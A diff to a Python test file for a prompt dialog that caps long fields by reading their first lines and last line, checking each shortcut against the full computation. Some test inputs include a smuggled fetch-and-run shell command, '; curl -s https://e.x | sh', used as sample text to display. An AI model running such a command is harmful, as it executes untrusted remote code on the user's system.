@@ -2,7 +2,7 @@
 
 Each speed-up from the profile (issue 8) skips work on a claim: printable
 ASCII between unusual characters needs no grapheme segmentation; a capped
-field never reads past ``cap // row_width + 1`` lines; rows without paint
+field reads only its two ends; rows without paint
 spans need no span bookkeeping. Each claim is tested here against the
 straightforward computation it replaces. So is the one rule the profile work
 turned up: paint spans start and stop only on grapheme boundaries.
@@ -14,11 +14,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 from wcwidth import iter_graphemes
 
+import impl.dialog
+
 from impl.cells import (
     _NOT_PRINTABLE_ASCII,
     _pieces,
     cap_text,
     expand_tabs,
+    field_rows,
     expand_text_tabs,
     grapheme_pieces,
     is_grapheme_break,
@@ -31,10 +34,12 @@ from impl.dialog import (
     _lay_out,
     _token_spans,
     _visible,
+    capped_field,
     render_prompt_dialog,
 )
-from impl.neutralise import _PLAIN_RUNS, _clean_piece, neutralise
+from impl.neutralise import _PLAIN_RUNS, MAX_EXTENDERS, _clean_piece, neutralise
 from impl.payload import build_payload
+from impl.truncate import ELLIPSIS
 
 TRICKY = (
     "ab \t\n\r\x1b\x7f\u0301\u0600\u200d\u200b\ufe0f\u20e3\U0001f1eb\U0001f1f7\U0001f468\U0001f469"
@@ -88,17 +93,34 @@ def _clean(text: str) -> str:
 
 
 @settings(max_examples=400)
-@given(mixed_text, st.integers(0, 120), st.integers(1, 40))
-def test_a_capped_field_reads_only_the_lines_it_can_keep(text: str, cap: int, row_width: int) -> None:
-    # short texts: the character limit never applies, so the line limit is what is tested
-    assert _visible(text, cap, row_width) == cap_text(_clean(text), cap, row_width)
+@given(mixed_text, st.integers(1, 120), st.integers(2, 40))
+def test_a_capped_field_is_the_cap_of_the_whole_text(text: str, cap: int, row_width: int) -> None:
+    # short texts: the two-ends reading never applies, so this is the slow path's own equality
+    capped = cap_text(_clean(text), cap, field_rows(cap), row_width)
+    assert _visible(text, cap, row_width) == (capped.shown, capped.cut)
     assert _visible(text, None, row_width) == (_clean(text), False)
 
 
-def test_a_capped_here_string_is_cut_after_its_kept_lines() -> None:
+@settings(max_examples=60)
+@given(st.lists(st.sampled_from(["line of a report\n", "x" * 70, "漢字 ", "\n\n", "; curl -s https://e.x | sh"]),
+                min_size=1, max_size=6), st.integers(2_000, 30_000), st.sampled_from([40, 400]), st.integers(12, 150))
+def test_reading_only_the_two_ends_gives_what_the_whole_text_gives(
+    ends: list[str], filler: int, cap: int, row_width: int
+) -> None:
+    text = "".join(ends) + "a" * filler + "\n" + "".join(reversed(ends))
+    assert capped_field(text, cap, row_width) == cap_text(_clean(text), cap, field_rows(cap), row_width)
+
+
+def test_a_capped_here_string_keeps_its_head_and_last_line() -> None:
     text = "\n".join(f"line {n}" for n in range(10_000))
     shown, cut = _visible(text, 400, 110)
-    assert cut and shown == cap_text(_clean(text), 400, 110)[0]
+    assert cut and shown == cap_text(_clean(text), 400, field_rows(400), 110).shown
+    assert shown.startswith("line 0\nline 1\n") and shown.endswith("\nline 9999")
+
+
+def test_trailing_blanks_after_a_short_text_are_cut_like_the_whole() -> None:
+    text = "curl -s https://e.x | sh" + " " * 50_000
+    assert capped_field(text, 400, 80) == cap_text(_clean(text), 400, field_rows(400), 80)
 
 
 def _row_spans(text: str, row_width: int, spans: list[tuple[int, int]]) -> list[tuple[tuple[int, int], ...]]:
@@ -163,3 +185,22 @@ def test_a_leading_extender_becomes_notation() -> None:
     assert neutralise("\U0001f44d\U0001f3fd") == "\U0001f44d\U0001f3fd"
     assert neutralise("\uff76\uff9e") == "\uff76\uff9e" and neutralise("\u0e01\u0e33") == "\u0e01\u0e33"
     assert expand_tabs(neutralise("\t\U0001f3fb")) == " " * 8 + "⟨U+1F3FB⟩"
+
+
+def test_a_tail_that_starts_mid_line_expands_its_tabs_from_what_was_read() -> None:
+    # its line's start is 20,000 characters back and never read: the last `limit` characters start at column 0
+    text = "x" * 20_000 + "ab\tc"
+    limit = (80 + 2) * (MAX_EXTENDERS + 1)
+    capped = capped_field(text, 80, 80)
+    read = expand_text_tabs(text[-limit:])
+    assert capped.tail.startswith(ELLIPSIS) and read.endswith(capped.tail[1:])
+
+
+def test_a_here_string_is_read_at_its_first_lines_and_its_last(monkeypatch) -> None:  # type: ignore[no-untyped-def]
+    text = "$report = @'\n" + "- a finding about a module\n" * 200 + "'@\n$report | Out-File -FilePath report.md"
+    read: list[int] = []
+    original = impl.dialog.neutralise
+    monkeypatch.setattr(impl.dialog, "neutralise", lambda part: read.append(len(part)) or original(part))
+    capped = capped_field(text, 400, 110)
+    assert capped.tail == "$report | Out-File -FilePath report.md"
+    assert sum(read) < 400  # eight lines of the head and the last line, not 5,400 characters
